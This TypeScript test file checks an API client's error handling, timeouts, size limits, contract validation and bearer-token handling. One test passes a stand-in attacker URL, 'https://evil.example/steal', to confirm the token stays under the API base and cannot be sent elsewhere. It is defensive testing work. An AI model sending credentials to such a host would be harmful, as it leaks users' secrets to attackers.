import { delay, http as mswHttp, HttpResponse } from 'msw';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { faults } from '../../mocks/faults';
import { server } from '../../mocks/server';
import { ApiError } from './api-error';
import axios, { type AxiosAdapter } from 'axios';
import { apiUrl, createHttp, getDocument, yieldBeforeFirstRequest } from './client';
import { metaSchema, unitDocumentSchema } from './contract';

const BASE = 'http://localhost/api/';
const errorOf = async (promise: Promise<unknown>): Promise<ApiError> => {
  try {
    await promise;
  } catch (e) {
    if (e instanceof ApiError) return e;
    throw e;
  }
  throw new Error('expected a failure');
};

afterEach(() => vi.unstubAllGlobals());

describe('getDocument turns every failure into a typed ApiError', () => {
  it.each([
    [500, 'http', true],
    [503, 'http', true],
    [404, 'not_found', false],
    [401, 'unauthorized', false],
    [403, 'forbidden', false],
  ] as const)('HTTP %i → %s (retryable: %s)', async (status, kind, retryable) => {
    server.use(faults.status(status));
    const error = await errorOf(getDocument('v1/meta.json', metaSchema, undefined, createHttp(BASE, 1000)));
    expect({ kind: error.kind, status: error.details.status, retryable: error.retryable }).toEqual({ kind, status, retryable });
  });

  it('aborts a request that outlives the timeout and says how long it waited', async () => {
    let aborted = false;
    server.use(
      mswHttp.get('*/api/v1/meta.json', async ({ request }) => {
        request.signal.addEventListener('abort', () => (aborted = true));
        await delay(2000);
        return HttpResponse.json({});
      }),
    );
    const started = performance.now();
    const error = await errorOf(getDocument('v1/meta.json', metaSchema, undefined, createHttp(BASE, 60)));
    expect(error.kind).toBe('timeout');
    expect(error.details.timeoutMs).toBe(60);
    expect(performance.now() - started).toBeLessThan(1500);
    await vi.waitFor(() => expect(aborted).toBe(true));
  });

  it('refuses an oversized response while it streams', async () => {
    server.use(faults.oversized(5000));
    const error = await errorOf(getDocument('v1/meta.json', metaSchema, undefined, createHttp(BASE, 1000, { maxBytes: 1000 })));
    expect(error).toMatchObject({ kind: 'too_large', details: { size: 1000 } });
  });

  it('rejects malformed JSON', async () => {
    server.use(faults.malformed());
    expect((await errorOf(getDocument('v1/meta.json', metaSchema, undefined, createHttp(BASE, 1000)))).kind).toBe('malformed');
  });

  it('names the field of a contract violation', async () => {
    server.use(
      faults.contract((doc) => {
        const figures = doc.figures as Record<string, { series: Record<string, { values: unknown }> }>;
        figures['06']!.series['P8.1.1']!.values = 'nhiều';
      }),
    );
    const error = await errorOf(getDocument('v1/units/06.json', unitDocumentSchema, undefined, createHttp(BASE, 1000)));
    expect(error.kind).toBe('contract');
    expect(error.details.field).toBe('figures.06.series.P8.1.1.values');
  });

  it('reports offline when the browser knows it is offline, a network error otherwise', async () => {
    server.use(faults.networkError());
    expect((await errorOf(getDocument('v1/meta.json', metaSchema, undefined, createHttp(BASE, 1000)))).kind).toBe('network');
    vi.spyOn(navigator, 'onLine', 'get').mockReturnValue(false);
    expect((await errorOf(getDocument('v1/meta.json', metaSchema, undefined, createHttp(BASE, 1000)))).kind).toBe('offline');
  });

  it('reports a request cancelled by its caller as aborted', async () => {
    server.use(faults.slow(2000));
    const controller = new AbortController();
    const pending = getDocument('v1/meta.json', metaSchema, controller.signal, createHttp(BASE, 5000));
    setTimeout(() => controller.abort(), 20);
    expect((await errorOf(pending)).kind).toBe('aborted');
  });
});

describe('the API token', () => {
  it('is sent as a bearer header to the API origin and never appears in the URL or an error', async () => {
    const seen: { url: string; auth: string | null }[] = [];
    server.use(
      mswHttp.get('*/api/v1/*', ({ request }) => {
        seen.push({ url: request.url, auth: request.headers.get('authorization') });
        return HttpResponse.json({ error: 'no' }, { status: 500 });
      }),
    );
    const error = await errorOf(getDocument('v1/meta.json', metaSchema, undefined, createHttp(BASE, 1000, { token: 's3cret-token' })));
    expect(seen).toEqual([{ url: 'http://localhost/api/v1/meta.json', auth: 'Bearer s3cret-token' }]);
    expect(JSON.stringify({ message: error.message, details: error.details, stack: error.stack })).not.toContain('s3cret');
  });

  it('cannot be sent elsewhere: absolute paths stay under the API base', async () => {
    const seen: string[] = [];
    server.use(
      mswHttp.get('*', ({ request }) => {
        seen.push(`${request.url} ${request.headers.get('authorization') ?? ''}`);
        return HttpResponse.json({}, { status: 404 });
      }),
    );
    await errorOf(getDocument('https://evil.example/steal', metaSchema, undefined, createHttp('https://api.example.org/api/', 1000, { token: 'tok' })));
    expect(seen).toHaveLength(1);
    expect(seen[0]).toMatch(/^https:\/\/api\.example\.org\/api\/https:\/\/evil\.example\/steal Bearer tok$/);
  });

  it('is not sent when none is configured', async () => {
    let auth: string | null = 'unset';
    server.use(
      mswHttp.get('*/api/v1/meta.json', ({ request }) => {
        auth = request.headers.get('authorization');
        return HttpResponse.json({}, { status: 404 });
      }),
    );
    await errorOf(getDocument('v1/meta.json', metaSchema, undefined, createHttp(BASE, 1000)));
    expect(auth).toBeNull();
  });
});

describe('the first request of an instance is dispatched in a later task', () => {
  const setup = () => {
    const sent: string[] = [];
    const adapter: AxiosAdapter = async (config) => {
      if (config.signal?.aborted) throw new axios.CanceledError();
      sent.push(config.url ?? '');
      return { data: 'ok', status: 200, statusText: 'OK', headers: {}, config };
    };
    const instance = axios.create({ adapter });
    let release = () => {};
    const later = vi.fn(() => new Promise<void>((resolve) => (release = resolve)));
    yieldBeforeFirstRequest(instance, later);
    const microtasks = async () => {
      for (let i = 0; i < 10; i++) await Promise.resolve();
    };
    return { instance, sent, later, release: () => release(), microtasks };
  };

  it('waits for the later task once, then sends every request at once', async () => {
    const { instance, sent, later, release, microtasks } = setup();
    const first = instance.get('a');
    await microtasks();
    expect(sent).toEqual([]);
    release();
    await first;
    expect(sent).toEqual(['a']);
    await Promise.all([instance.get('b'), instance.get('c')]);
    expect(sent).toEqual(['a', 'b', 'c']);
    expect(later).toHaveBeenCalledTimes(1);
  });

  it('is cancelled, not sent, when its caller aborts during the wait', async () => {
    const { instance, sent, release, microtasks } = setup();
    const controller = new AbortController();
    const first = instance.get('a', { signal: controller.signal }).then(
      () => 'sent',
      (e: unknown) => (axios.isCancel(e) ? 'cancelled' : 'failed'),
    );
    await microtasks();
    controller.abort();
    release();
    expect(await first).toBe('cancelled');
    expect(sent).toEqual([]);
  });

  it.each([
    { status: 500, kind: 'http' },
    { status: 404, kind: 'not_found' },
  ] as const)('gives the same error as before on the first and the next request: HTTP $status → $kind', async ({ status, kind }) => {
    server.use(faults.status(status));
    const client = createHttp(BASE, 1000);
    for (let i = 0; i < 2; i++) expect((await errorOf(getDocument('v1/meta.json', metaSchema, undefined, client))).kind).toBe(kind);
  });
});

describe('helpers', () => {
  it('resolves API paths against a relative or absolute base', () => {
    expect(apiUrl('v1/meta.json', '/api/')).toBe('http://localhost/api/v1/meta.json');
    expect(apiUrl('v1/units/06.json', 'https://data.example.org/da8/')).toBe('https://data.example.org/da8/v1/units/06.json');
  });
});
